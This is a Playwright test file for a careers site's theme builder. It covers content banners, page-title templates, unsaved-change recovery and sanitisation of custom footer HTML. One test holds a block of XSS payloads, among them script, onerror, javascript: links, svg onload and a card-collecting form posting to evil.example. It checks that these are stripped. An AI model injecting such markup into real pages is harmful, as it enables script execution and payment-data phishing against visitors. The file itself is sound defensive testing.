import type { Browser, Page } from '@playwright/test';
import type { Envelope } from '../../reference-app/contract/envelope.ts';
import { audit, overflowOf } from '../accessibility/audit.ts';
import { addressOf } from './employers.ts';
import { openPage } from './search-page.ts';
import { expect, test, type CallAs, type ThemedSite } from './site.ts';
import { brand, openThemeBuilder, reopenPanel } from './theme-panel.ts';

const address = '/api/pcsx/site_content';
const untouched = {
  banners: [],
  phase: null,
  tagline: 'Good care, wherever you live',
  titles: {},
  navbar: '',
  footer: '',
};

/** As another theme builder writes it. */
const writeContent = (callAs: CallAs, body: object) => callAs(brand, { method: 'PUT', path: address, body });

// the tests of a worker share a server
test.afterEach(({ callAs }) => writeContent(callAs, untouched));

/** The tab with its cards, on a page that has a primary button and, as a search, is called `jobs`. */
async function openContent(page: Page, site: ThemedSite) {
  const builder = await openThemeBuilder(page, site);
  const { panel } = builder;
  await panel.getByRole('tab', { name: 'Content' }).click();
  const card = (name: string) => panel.getByRole('region', { name, exact: true });
  await expect(card('Banners')).toBeVisible();
  const save = async (name: string) => {
    await panel.getByRole('button', { name: `Save: ${name}`, exact: true }).click();
    await expect(card(name).getByText('Saved. Visitors see it now.')).toBeVisible();
  };
  return { builder, panel, card, save };
}

/** A page as somebody sees it who comes anew. */
async function visit(browser: Browser, site: ThemedSite, path: string) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await openPage(page, `${site.address}${addressOf(path)}`);
  return page;
}

test('THEME-07 SHELL-02 a banner that is saved shows in the page at once, and to visitors of its pages in its time; a page’s title may be the employer’s own; axe finds nothing in the content (B15, B18)', async ({
  page,
  themedSite,
  browser,
}) => {
  const { panel, card, save } = await openContent(page, themedSite);
  const loads: string[] = [];
  page.on('request', (request) => {
    if (request.resourceType() === 'document') loads.push(request.url());
  });
  const banners = card('Banners');
  await panel.getByRole('button', { name: 'Add a banner' }).click();
  const text = banners.getByRole('textbox', { name: 'Text' });
  await expect(text).toBeFocused();
  await panel.getByRole('button', { name: 'Save: Banners' }).click();
  await expect(banners.getByText('Write what the banner says.')).toBeVisible();
  await expect(text).toBeFocused();
  await text.fill('Open day on Friday');
  await banners.getByRole('radio', { name: 'Alert' }).check();
  await banners.getByLabel('Starts').fill('2020-01-01T10:00');
  await banners.getByLabel('Ends').fill('2019-01-01T10:00');
  await panel.getByRole('button', { name: 'Save: Banners' }).click();
  await expect(banners.getByText('It has to end after it starts.')).toBeVisible();

  await test.step('axe', async () => {
    await card('Footer').getByRole('textbox').fill('<script>1</script><p>Our words</p>');
    await card('Page titles').locator('summary').click();
    await panel.getByText('Last changes of the content').click();
    await expect(card('Footer').getByRole('listitem').first()).toBeVisible();
    for (const width of [320, 1280]) {
      await page.setViewportSize({ width, height: 800 });
      expect.soft(await audit(page), `${width} px`).toEqual([]);
      expect.soft(await overflowOf(page), `${width} px`).toBe(0);
    }
    await panel.getByRole('button', { name: 'Discard changes: Footer' }).click();
  });
  await banners.getByLabel('Ends').fill('2090-01-01T10:00');
  await save('Banners');
  const notices = page.getByRole('complementary', { name: 'Notices' });
  await expect(notices.getByRole('alert')).toHaveText('Open day on Friday');
  expect(loads).toEqual([]);

  const jobs = card('Page titles').getByRole('textbox', { name: 'Job search' });
  await expect(jobs).toHaveAttribute('placeholder', 'Careers at Meridian Health');
  await jobs.fill('{employer} jobs');
  await panel.getByRole('button', { name: 'Save: Page titles' }).click();
  await expect(card('Page titles').getByText(/^In braces there may be/)).toBeVisible();
  await expect(jobs).toBeFocused();
  await jobs.fill('Work with us | {company} | {title}');
  await save('Page titles');

  const visitor = await visit(browser, themedSite, '/careers');
  await expect(visitor).toHaveTitle('Work with us | Meridian Health | Careers at Meridian Health');
  await expect(visitor.getByRole('alert').getByText('Open day on Friday')).toBeVisible();
  await openPage(visitor, `${themedSite.address}${addressOf('/careers/login')}`);
  await expect(visitor.locator('#root').getByText('Open day on Friday')).toHaveCount(0);

  await banners.getByLabel('Starts').fill('2080-01-01T10:00');
  await save('Banners');
  await expect(notices).toHaveCount(0);
  const html = await visitor.request.get(`${themedSite.address}${addressOf('/careers')}`);
  expect(await html.text()).not.toContain('Open day on Friday');
  await visitor.context().close();
});

const hostile = `<script>window.ran = 'script'</script>
<img src="x" onerror="window.ran = 'onerror'">
<a href="javascript:window.ran='href'">Our link</a>
<iframe src="javascript:parent.ran='iframe'"></iframe>
<form action="https://evil.example"><input name="card"><button>Pay</button></form>
<div style="position:fixed;inset:0;z-index:9999;color:red" onclick="window.ran='click'">Our words</div>
<svg onload="window.ran='svg'"></svg>`;

test('SHELL-03 hostile HTML runs neither in the page while it is written nor for visitors, and what it loses is told (B15)', async ({
  page,
  themedSite,
  browser,
}) => {
  const { panel, card, save } = await openContent(page, themedSite);
  const field = card('Footer').getByRole('textbox');
  await field.fill(hostile);
  for (const lost of [
    '<script>',
    '<iframe>',
    '<form>',
    'onerror on <img>',
    'href on <a>',
    'style position on <div>',
  ])
    await expect(card('Footer').getByRole('listitem').filter({ hasText: lost })).toBeVisible();
  // seen behind the panel by who writes it, and by nobody else
  await expect(page.getByText('Our words', { exact: true })).toHaveCSS('color', 'rgb(255, 0, 0)');
  const visitor = await visit(browser, themedSite, '/careers');
  expect(await visitor.content()).not.toContain('Our words');

  await save('Footer');
  await openPage(visitor, `${themedSite.address}${addressOf('/careers')}`);
  for (const shown of [page, visitor]) {
    const words = shown.locator('footer').getByText('Our words', { exact: true });
    await words.click();
    await expect(words).toHaveCSS('position', 'static');
    await shown.locator('footer').getByText('Our link').click();
    await expect(
      shown
        .locator('footer > div')
        .filter({ hasText: 'Our words' })
        .locator('script, iframe, input, svg, [onclick], [onerror], [style], a[href^="java"]'),
    ).toHaveCount(0);
    expect(await shown.evaluate(() => (window as unknown as { ran?: string }).ran)).toBeUndefined();
  }

  await field.fill('<script>1</script>');
  await expect(
    card('Footer').getByText('Nothing that can be shown is left, so visitors get the standard one.'),
  ).toBeVisible();
  await panel.getByRole('button', { name: 'Discard changes: Footer' }).click();
  await expect(page.locator('footer').getByText('Our words', { exact: true })).toBeVisible();
  await visitor.context().close();
});

test('SHELL-03 SHELL-04 HTML that is larger than its place scrolls there, and ?theme=safe shows the standard parts; a banner goes from a page that stays open when its time is over (B15)', async ({
  page,
  themedSite,
  callAs,
}) => {
  const long = `<p style="white-space: nowrap">${'As long as a line can be. '.repeat(40)}</p>`;
  const lines = '<p style="font-size: 64px; padding: 96px">Our line</p>'.repeat(40);
  const endsAt = new Date(Date.now() + 3_600_000).toISOString();
  const banner = { variant: 'info', text: 'Only for an hour', pages: ['jobs'], endsAt };
  await writeContent(callAs, { banners: [banner], navbar: long + lines, footer: long + lines });
  await page.clock.install();
  await openPage(page, `${themedSite.address}${addressOf('/careers')}`);
  for (const place of [page.locator('header'), page.locator('footer')])
    await expect(place.getByText('Our line').first()).toBeAttached();
  for (const width of [320, 1280]) {
    await page.setViewportSize({ width, height: 800 });
    expect(await overflowOf(page)).toBe(0);
    const { y } = (await page.locator('main').boundingBox())!;
    expect(y).toBeLessThan(800);
    const { height } = (await page.locator('footer').boundingBox())!;
    expect(height).toBeLessThan(1000);
  }
  const notices = page.getByRole('complementary', { name: 'Notices' });
  await expect(notices.getByText('Only for an hour')).toBeVisible();
  await page.clock.fastForward(3_590_000);
  await expect(notices.getByText('Only for an hour')).toBeVisible();
  await page.clock.fastForward(20_000);
  await expect(notices).toHaveCount(0);

  await openPage(page, `${themedSite.address}${addressOf('/careers', { theme: 'safe' })}`);
  await expect(page.locator('header').getByRole('link', { name: 'Jobs' })).toBeVisible();
  await expect(page.getByText('Our line')).toHaveCount(0);
});

test('THEME-07 what is not saved waits through a closed panel, a failed save and a reload; of two who change the same words both are shown and neither is lost; other parts go together (B11)', async ({
  page,
  themedSite,
  callAs,
}) => {
  const { builder, panel, card, save } = await openContent(page, themedSite);
  const tagline = card('Tagline').getByRole('textbox', { name: 'Tagline' });
  const tab = panel.getByRole('tab', { name: 'Content' });
  await test.step('not saved', async () => {
    await tagline.fill('Better care');
    await panel.getByRole('button', { name: 'Close', exact: true }).click();
    await page.getByRole('button', { name: 'Edit theme' }).click();
    await tab.click();
    await expect(tagline).toHaveValue('Better care');
    await page.route(`**${address}*`, (route) => route.abort());
    await panel.getByRole('button', { name: 'Save: Tagline' }).click();
    await expect(card('Tagline').getByText(/Not saved, because there is no connection/)).toBeVisible();
    await page.unroute(`**${address}*`);
    await reopenPanel(builder);
    await tab.click();
    await expect(panel.getByText('Changes that were not saved are still here.')).toBeVisible();
    await expect(tagline).toHaveValue('Better care');
    await save('Tagline');
  });
  await test.step('what was before', async () => {
    await panel.getByText('Last changes of the content').click();
    await panel
      .getByRole('button', { name: /^Bring back what was before: Tagline/ })
      .first()
      .click();
    await expect(tagline).toHaveValue(untouched.tagline);
  });
  await test.step('two who change', async () => {
    await tagline.fill('Mine');
    await writeContent(callAs, { phase: 'Being set up' });
    await save('Tagline');
    await expect(card('Opening notice').getByRole('textbox', { name: 'Text' })).toHaveValue('Being set up');

    await tagline.fill('Mine again');
    await writeContent(callAs, { tagline: 'Theirs' });
    await panel.getByRole('button', { name: 'Save: Tagline' }).click();
    const conflict = card('Tagline').getByRole('alert');
    await expect(conflict).toContainText('Somebody else has changed this');
    await expect(conflict).toContainText('Mine again');
    await expect(conflict).toContainText('Theirs');
    await conflict.getByRole('button', { name: 'Save mine' }).click();
    await expect(card('Tagline').getByText('Saved. Visitors see it now.')).toBeVisible();
    const answer = await callAs(brand, { path: address });
    const { data } = (await answer.json()) as Envelope<{ content: typeof untouched }>;
    expect(data.content).toMatchObject({ tagline: 'Mine again', phase: 'Being set up' });
  });
});
